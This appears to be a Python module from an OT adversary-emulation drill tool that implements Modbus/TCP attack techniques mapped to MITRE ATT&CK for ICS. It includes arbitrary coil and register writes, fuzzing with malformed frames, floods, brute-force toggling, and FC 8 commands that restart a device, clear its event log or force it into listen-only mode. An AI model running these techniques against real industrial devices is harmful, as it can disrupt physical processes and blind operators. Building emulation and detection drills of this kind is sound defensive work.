"""Modbus/TCP techniques: reads, writes, identification, scans, fuzzing, flooding, FC 8 abuse.

Covers the abilities of MITRE Caldera for OT's Modbus plugin (read coils / discrete inputs /
holding / input registers, write single and multiple coils and registers, fuzz coils, fuzz
registers) and what real intruders add: device identification (FC 43/14), function-code and
address scans, floods, brute-force toggling and the FC 8 sub-functions that restart a device's
communications or silence it (force listen only).

Every ADU is built with :func:`interlock.protocols.modbus.build_adu` and sent over a plain
asyncio stream, not with pymodbus' client: the attacker must be able to send malformed frames
(fuzzing, short PDUs in a function scan, pipelined floods) and the drill needs the exact bytes
as ground truth; pymodbus' client would validate, retry and number transactions on its own.
"""

from __future__ import annotations

import asyncio
import random
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass

from interlock.drill.techniques.base import (
    CONNECTION_CLOSED,
    MALFORMED_RESPONSE,
    NO_RESPONSE,
    OK,
    Context,
    Link,
    Stream,
    Technique,
    again,
    family,
    repeat,
    summarize,
)
from interlock.protocols.base import Direction, Malformed
from interlock.protocols.modbus import (
    DiagnosticsRequest,
    ExceptionResponse,
    ModbusPdu,
    ReadCoilsRequest,
    ReadCoilsResponse,
    ReadDeviceIdentificationRequest,
    ReadDeviceIdentificationResponse,
    ReadDiscreteInputsRequest,
    ReadDiscreteInputsResponse,
    ReadHoldingRegistersRequest,
    ReadHoldingRegistersResponse,
    ReadInputRegistersRequest,
    ReadInputRegistersResponse,
    WriteMultipleCoilsRequest,
    WriteMultipleRegistersRequest,
    WriteSingleCoilRequest,
    WriteSingleRegisterRequest,
    build_adu,
    parse_mbap,
    parse_pdu,
)
from interlock.protocols.modbus.fields import DEVICE_ID_OBJECT_NAMES, MBAP_SIZE

PROTOCOL = "modbus"
RESTART_COMMUNICATIONS, FORCE_LISTEN_ONLY = 0x01, 0x04  # FC 8 sub-functions (spec 6.8.1)
TABLES = ("coils", "discrete", "holding", "input")

Pdu = ModbusPdu | bytes


@dataclass(frozen=True)
class Reply:
    """What came back for one request: an outcome string and the decoded PDU, if any."""

    outcome: str
    pdu: ModbusPdu | None = None
    raw: bytes = b""  # the response PDU as received, for the detail of odd replies


def outcome_of(pdu: ModbusPdu | Malformed) -> str:
    if isinstance(pdu, Malformed):
        return MALFORMED_RESPONSE
    if isinstance(pdu, ExceptionResponse):
        return f"exception 0x{pdu.exception_code:02x}"
    return OK


def unpack_bits(status: bytes, count: int) -> list[bool]:
    return [bool(status[i >> 3] >> (i & 7) & 1) for i in range(min(count, 8 * len(status)))]


def pack_bits(values: tuple[int, ...]) -> bytes:
    out = bytearray((len(values) + 7) // 8)
    for i, v in enumerate(values):
        if v:
            out[i >> 3] |= 1 << (i & 7)
    return bytes(out)


class ModbusLink(Link):
    """A Modbus/TCP client made of Interlock's codec: numbers transactions, reconnects after the
    server drops the connection (as servers do on a malformed frame), matches replies by id."""

    def __init__(self, ctx: Context) -> None:
        super().__init__(ctx)
        self.transaction = 0
        self.reconnects = 0

    def next_adu(self, unit: int, pdu: Pdu) -> tuple[int, bytes]:
        self.transaction = (self.transaction + 1) & 0xFFFF
        return self.transaction, build_adu(self.transaction, unit, pdu)

    async def ensure(self) -> Stream:
        if self.stream is None:
            self.stream = await self.ctx.connect()
            self.reconnects += 1
        return self.stream

    async def read_reply(self, stream: Stream,
                         timeout: float | None = None) -> tuple[int, ModbusPdu | Malformed, bytes]:
        """The next ADU from the server: its transaction id, decoded PDU and PDU bytes."""
        head = await stream.recv(MBAP_SIZE, timeout)
        mbap = parse_mbap(head)
        if isinstance(mbap, Malformed):
            raise ValueError(mbap.detail)
        body = await stream.recv(mbap.length - 1, timeout)
        self.ctx.responses += 1
        return mbap.transaction_id, parse_pdu(body, Direction.RESPONSE), body

    async def request(self, pdu: Pdu, unit: int, *, wait: float | None = None) -> Reply:
        """Send one request and wait for its reply (``wait`` seconds, default the run's timeout)."""
        stream = await self.ensure()
        tid, adu = self.next_adu(unit, pdu)
        try:
            await stream.send(adu)
            while True:
                rtid, reply, raw = await self.read_reply(stream, wait)
                if rtid == tid:  # a late reply to an earlier timed-out request is skipped
                    break
        except TimeoutError:
            return Reply(NO_RESPONSE)
        except (asyncio.IncompleteReadError, ConnectionError, ValueError):
            await stream.close()
            self.stream = None
            return Reply(CONNECTION_CLOSED)
        return Reply(outcome_of(reply), None if isinstance(reply, Malformed) else reply, raw)


Body = Callable[[Context, ModbusLink], Awaitable[tuple[str, dict[str, object]]]]


def read_request(table: str, address: int, count: int) -> ModbusPdu:
    if table == "coils":
        return ReadCoilsRequest(address, count)
    if table == "discrete":
        return ReadDiscreteInputsRequest(address, count)
    if table == "holding":
        return ReadHoldingRegistersRequest(address, count)
    if table == "input":
        return ReadInputRegistersRequest(address, count)
    raise ValueError(f"unknown Modbus table {table!r}; use one of {', '.join(TABLES)}")


def read_values(pdu: ModbusPdu | None, count: int) -> list[int]:
    if isinstance(pdu, ReadCoilsResponse):
        return [int(b) for b in unpack_bits(pdu.coil_status, count)]
    if isinstance(pdu, ReadDiscreteInputsResponse):
        return [int(b) for b in unpack_bits(pdu.input_status, count)]
    if isinstance(pdu, ReadHoldingRegistersResponse | ReadInputRegistersResponse):
        return list(pdu.registers)
    return []


async def _repeat(ctx: Context, link: ModbusLink, pdu: Pdu) -> tuple[list[str], Reply]:
    """Send ``pdu`` ``repeat`` times with ``interval_s`` between; the outcomes and last reply."""
    replies = await repeat(ctx, lambda: link.request(pdu, ctx.unit()))
    return [reply.outcome for reply in replies], replies[-1]


def _read(table: str) -> Body:
    async def body(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
        address, count = ctx.as_int("address"), ctx.as_int("count")
        outcomes, reply = await _repeat(ctx, link, read_request(table, address, count))
        return summarize(outcomes), {"table": table, "address": address, "count": count,
                                     "values": read_values(reply.pdu, count), "outcomes": outcomes}
    return body


async def _write_coil(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    address, value = ctx.as_int("address"), ctx.as_bool("value")
    outcomes, _ = await _repeat(ctx, link, WriteSingleCoilRequest(address, value))
    return summarize(outcomes), {"address": address, "value": value, "outcomes": outcomes}


async def _write_register(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    address, value = ctx.as_int("address"), ctx.as_int("value")
    outcomes, _ = await _repeat(ctx, link, WriteSingleRegisterRequest(address, value))
    return summarize(outcomes), {"address": address, "value": value, "outcomes": outcomes}


async def _write_coils(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    address, values = ctx.as_int("address"), tuple(int(bool(v)) for v in ctx.as_ints("values"))
    pdu = WriteMultipleCoilsRequest(address, len(values), pack_bits(values))
    outcomes, _ = await _repeat(ctx, link, pdu)
    return summarize(outcomes), {"address": address, "values": list(values), "outcomes": outcomes}


async def _write_registers(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    address, values = ctx.as_int("address"), ctx.as_ints("values")
    outcomes, _ = await _repeat(ctx, link, WriteMultipleRegistersRequest(address, values))
    return summarize(outcomes), {"address": address, "values": list(values), "outcomes": outcomes}


async def _read_device_id(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    """FC 43/14, following ``more follows`` as a real scanner does (at most 16 requests)."""
    code, object_id = ctx.as_int("read_code"), ctx.as_int("object_id")
    objects: dict[str, str] = {}
    outcomes: list[str] = []
    conformity = None
    for _ in range(16):
        reply = await link.request(ReadDeviceIdentificationRequest(code, object_id), ctx.unit())
        outcomes.append(reply.outcome)
        pdu = reply.pdu
        if not isinstance(pdu, ReadDeviceIdentificationResponse):
            break
        conformity = pdu.conformity_level
        for oid, value in pdu.objects:
            objects[DEVICE_ID_OBJECT_NAMES.get(oid, f"0x{oid:02x}")] = value.decode("latin-1")
        if not pdu.more_follows or code == 4:
            break
        object_id = pdu.next_object_id
    return summarize(outcomes), {"read_code": code, "objects": objects, "conformity_level": conformity,
                                 "outcomes": outcomes}


# Probes of the write functions that a compliant server must refuse (spec 6.5, 6.11, 6.12:
# exception 3 on an illegal output value or a quantity of 0), so a scan should not write. A
# lax server may still act on them: pymodbus 3.16 takes coil value 0x1234 as ON.
_REFUSED_WRITES = {
    5: bytes.fromhex("0500001234"),  # coil value neither FF00 nor 0000
    6: bytes.fromhex("060000"),  # truncated: no value
    15: bytes.fromhex("0f0000000000"),  # quantity 0
    16: bytes.fromhex("100000000000"),  # quantity 0
    22: bytes.fromhex("160000"),  # truncated: no masks
    23: bytes.fromhex("17000000000000000000"),  # read quantity 0
}


def scan_probe(fc: int) -> Pdu:
    """The request a function scan sends for ``fc``: harmless reads for the read functions,
    refused writes (above), the function code alone otherwise. A server that implements it
    answers a reply or exception 3, one that does not answers exception 1."""
    if 1 <= fc <= 4:
        return read_request(TABLES[fc - 1], 0, 1)
    if fc == 8:
        return DiagnosticsRequest(0, b"\x00\x00")  # return query data: an echo
    if fc == 43:
        return ReadDeviceIdentificationRequest(1, 0)
    return _REFUSED_WRITES.get(fc, bytes((fc,)))


async def _function_scan(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    codes = ctx.as_ints("function_codes") or tuple(range(1, 128))
    results: dict[int, str] = {}
    odd: dict[int, str] = {}
    for i, fc in enumerate(codes):
        if i:
            await ctx.pause()
        reply = await link.request(scan_probe(fc), ctx.unit(), wait=ctx.as_float("wait_s"))
        results[fc] = reply.outcome
        if reply.outcome == MALFORMED_RESPONSE:
            odd[fc] = reply.raw.hex()
    # implemented: a reply or any exception but ILLEGAL_FUNCTION; silence or garbage says nothing
    supported = [fc for fc, o in results.items()
                 if o == OK or (o.startswith("exception") and o != "exception 0x01")]
    return OK, {"supported": supported, "results": results, "malformed_replies": odd}


def _ranges(addresses: list[int]) -> list[list[int]]:
    out: list[list[int]] = []
    for a in addresses:
        if out and out[-1][1] + 1 == a:
            out[-1][1] = a
        else:
            out.append([a, a])
    return out


async def _address_scan(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    """One single-item read per address: which addresses of a table exist (exception 2 = not)."""
    table, start = ctx.as_str("table"), ctx.as_int("address")
    count, step = ctx.as_int("count"), max(ctx.as_int("step"), 1)
    valid: list[int] = []
    outcomes: dict[str, int] = {}
    for i, address in enumerate(range(start, min(start + count * step, 0x10000), step)):
        if i:
            await ctx.pause()
        reply = await link.request(read_request(table, address, 1), ctx.unit())
        outcomes[reply.outcome] = outcomes.get(reply.outcome, 0) + 1
        if reply.outcome == OK:
            valid.append(address)
    return OK, {"table": table, "valid": _ranges(valid), "outcomes": outcomes}


async def _flood(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    """``count`` reads paced at ``rate`` per second (0: unpaced). With ``pipeline`` the requests
    do not wait for answers while a reader counts the replies (many servers, pymodbus among
    them, drop all but the first of several ADUs in one segment); without, each waits for its
    reply, so the flood runs as fast as the server answers."""
    count, rate, unit = ctx.as_int("count"), ctx.as_float("rate"), ctx.unit()
    pdu = read_request(ctx.as_str("table"), ctx.as_int("address"), 1)
    loop = asyncio.get_running_loop()
    t0 = loop.time()
    if not ctx.as_bool("pipeline"):
        before = ctx.responses  # the ledger spans repeats: count this burst's answers only
        outcomes: dict[str, int] = {}
        for i in range(count):
            if rate > 0 and (delay := t0 + i / rate - loop.time()) > 0:
                await asyncio.sleep(delay)
            outcome = (await link.request(pdu, unit)).outcome
            outcomes[outcome] = outcomes.get(outcome, 0) + 1
        answered = ctx.responses - before
        return (OK if answered == count else f"{count - answered} unanswered",
                {"sent": count, "answered": answered, "seconds": round(loop.time() - t0, 3),
                 "outcomes": outcomes})
    stream = await link.ensure()
    got = 0

    async def reader() -> None:
        nonlocal got
        while got < count:
            try:
                await link.read_reply(stream)
            except (TimeoutError, asyncio.IncompleteReadError, ConnectionError, ValueError):
                return
            got += 1

    task = asyncio.create_task(reader())
    sent = 0
    try:
        for i in range(count):
            if rate > 0:
                delay = t0 + i / rate - loop.time()
                if delay > 0:
                    await asyncio.sleep(delay)
            await stream.send(link.next_adu(unit, pdu)[1])
            sent += 1
    except ConnectionError:
        pass
    await task
    elapsed = loop.time() - t0
    outcome = OK if got == sent else (NO_RESPONSE if got == 0 else f"{sent - got} unanswered")
    return outcome, {"sent": sent, "answered": got, "seconds": round(elapsed, 3)}


async def _brute_io(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    """Repeated writes cycling through ``values`` on one coil or register (T0806)."""
    kind, address, values = ctx.as_str("kind"), ctx.as_int("address"), ctx.as_ints("values")
    if kind not in ("coil", "register"):
        raise ValueError(f"modbus.brute_io: kind must be coil or register, not {kind!r}")
    outcomes: list[str] = []
    written: list[int] = []
    for i in range(max(1, ctx.as_int("repeat"))):
        if i:
            await ctx.pause()
        value = values[i % len(values)]
        pdu: ModbusPdu = (WriteSingleCoilRequest(address, bool(value)) if kind == "coil"
                          else WriteSingleRegisterRequest(address, value))
        outcomes.append((await link.request(pdu, ctx.unit())).outcome)
        written.append(int(bool(value)) if kind == "coil" else value)
    return summarize(outcomes), {"kind": kind, "address": address, "written": written}


async def _fuzz(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
    """Seeded fuzzing. ``mode`` ``mixed``: random function codes (1..127) with random bodies,
    often malformed, at addresses in [address, address + span); ``coils`` / ``registers``:
    Caldera's fuzz abilities, random FC 5 / FC 6 writes (register values in [min, max])."""
    rng = random.Random(ctx.as_int("seed"))
    mode, base, span = ctx.as_str("mode"), ctx.as_int("address"), max(1, ctx.as_int("span"))
    lo, hi = ctx.as_int("min"), ctx.as_int("max")
    outcomes: dict[str, int] = {}
    sent: list[str] = []
    for i in range(ctx.as_int("count")):
        if i:
            await ctx.pause()
        address = min(base + rng.randrange(span), 0xFFFF)
        pdu: Pdu
        if mode == "coils":
            pdu = WriteSingleCoilRequest(address, rng.random() < 0.5)
        elif mode == "registers":
            pdu = WriteSingleRegisterRequest(address, rng.randint(lo, hi))
        elif mode == "mixed":
            fc = rng.randint(1, 127)
            tail = bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 6)))
            pdu = bytes((fc,)) + address.to_bytes(2, "big") + tail
        else:
            raise ValueError(f"modbus.fuzz: mode must be mixed, coils or registers, not {mode!r}")
        reply = await link.request(pdu, ctx.unit(), wait=ctx.as_float("wait_s"))
        outcomes[reply.outcome] = outcomes.get(reply.outcome, 0) + 1
        sent.append(pdu.hex() if isinstance(pdu, bytes) else repr(pdu))
    return OK, {"mode": mode, "seed": ctx.as_int("seed"), "outcomes": outcomes, "pdus": sent}


def _diagnostic(sub_function: int) -> Body:
    async def body(ctx: Context, link: ModbusLink) -> tuple[str, dict[str, object]]:
        clear = sub_function == RESTART_COMMUNICATIONS and ctx.as_bool("clear_log")
        data = b"\xff\x00" if clear else b"\x00\x00"  # spec 6.8.1: FF00 also clears the event log
        wait = ctx.as_float("wait_s") if "wait_s" in ctx.params else None
        reply = await link.request(DiagnosticsRequest(sub_function, data), ctx.unit(), wait=wait)
        return reply.outcome, {"sub_function": sub_function, "data": data.hex(), "reply": reply.raw.hex()}
    return body


COMMON: dict[str, object] = {"unit": None, "repeat": 1, "interval_s": 0.0}
READ = {"address": 0, "count": 1, **COMMON}
READ_IDS = ("T0861", "T0801")  # Point & Tag Identification (as Caldera), Monitor Process State

_TABLE: list[tuple[str, tuple[str, ...], str, Mapping[str, object], Body]] = [
    ("modbus.read_coils", READ_IDS, "FC 1 Read Coils", READ, _read("coils")),
    ("modbus.read_discrete_inputs", READ_IDS, "FC 2 Read Discrete Inputs", READ, _read("discrete")),
    ("modbus.read_holding_registers", READ_IDS, "FC 3 Read Holding Registers", READ, _read("holding")),
    ("modbus.read_input_registers", READ_IDS, "FC 4 Read Input Registers", READ, _read("input")),
    ("modbus.write_coil", ("T0855", "T0831"), "FC 5 Write Single Coil",
     {"address": 0, "value": True, **COMMON}, _write_coil),
    ("modbus.write_register", ("T0836", "T0855", "T0831"), "FC 6 Write Single Register",
     {"address": 0, "value": 0, **COMMON}, _write_register),
    ("modbus.write_coils", ("T0855", "T0831"), "FC 15 Write Multiple Coils",
     {"address": 0, "values": (1,), **COMMON}, _write_coils),
    ("modbus.write_registers", ("T0836", "T0855", "T0831"), "FC 16 Write Multiple Registers",
     {"address": 0, "values": (0,), **COMMON}, _write_registers),
    ("modbus.read_device_id", ("T0888",), "FC 43/14 Read Device Identification",
     {"read_code": 1, "object_id": 0, **COMMON}, again(_read_device_id)),
    ("modbus.fuzz", ("T0855", "T0831"), "Seeded fuzzing: random function codes and addresses, or "
     "Caldera's fuzz coils / fuzz registers",
     {"mode": "mixed", "seed": 0, "count": 20, "address": 0, "span": 100, "min": 0, "max": 0xFFFF,
      "wait_s": 0.5, **COMMON}, again(_fuzz)),
    ("modbus.function_scan", ("T0846", "T0888"), "Every function code once: which ones the device "
     "implements", {"function_codes": (), "wait_s": 0.5, **COMMON}, again(_function_scan)),
    ("modbus.address_scan", ("T0861", "T0846"), "Single-item reads across an address range: which "
     "points exist", {"table": "holding", "address": 0, "count": 128, "step": 1, **COMMON},
     again(_address_scan)),
    ("modbus.flood", ("T0814",), "Pipelined reads at a rate (0 = unpaced)",
     {"count": 500, "rate": 0.0, "pipeline": False, "table": "holding", "address": 0, **COMMON},
     again(_flood)),
    ("modbus.brute_io", ("T0806",), "Repeated toggling writes to one coil or register",
     {"kind": "coil", "address": 0, "values": (1, 0), "repeat": 10, "interval_s": 0.0, "unit": None},
     _brute_io),
    ("modbus.restart_comms", ("T0816",), "FC 8/1 Restart Communications Option",
     {"clear_log": False, **COMMON}, again(_diagnostic(RESTART_COMMUNICATIONS))),
    ("modbus.force_listen_only", ("T0814", "T0815"), "FC 8/4 Force Listen Only Mode: the device "
     "stops answering (no response expected)", {"wait_s": 1.0, **COMMON},
     again(_diagnostic(FORCE_LISTEN_ONLY))),
]

TECHNIQUES: tuple[Technique, ...] = family(PROTOCOL, ModbusLink, _TABLE)
